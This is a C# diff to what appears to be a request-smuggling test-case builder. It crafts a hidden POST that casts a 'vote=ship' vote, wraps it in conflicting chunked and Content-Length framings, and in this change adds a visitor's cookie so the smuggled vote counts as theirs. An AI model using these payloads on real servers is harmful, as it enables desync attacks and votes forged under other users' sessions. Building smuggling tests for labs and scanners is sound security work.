@@ -16,11 +16,12 @@ public sealed record SmugglingCase(string Name, string Bytes)
 
     /// <summary>All cases.</summary>
     /// <param name="host">The value of the <c>Host</c> header.</param>
-    public static IReadOnlyList<SmugglingCase> All(string host)
+    /// <param name="cookie">A visitor's cookie, as <c>name=value</c>, without which a vote does not count.</param>
+    public static IReadOnlyList<SmugglingCase> All(string host, string cookie)
     {
         const string form = "vote=ship";
         var hidden = $"POST /tools/{Tool}/vote HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/x-www-form-urlencoded\r\n"
-            + $"Content-Length: {form.Length}\r\n\r\n{form}";
+            + $"Cookie: {cookie}\r\nContent-Length: {form.Length}\r\n\r\n{form}";
         var chunks = $"0\r\n\r\n{hidden}";
         var chunk = $"{hidden.Length:x}\r\n{hidden}\r\n0\r\n\r\n";
         var length = $"Content-Length: {chunks.Length}";
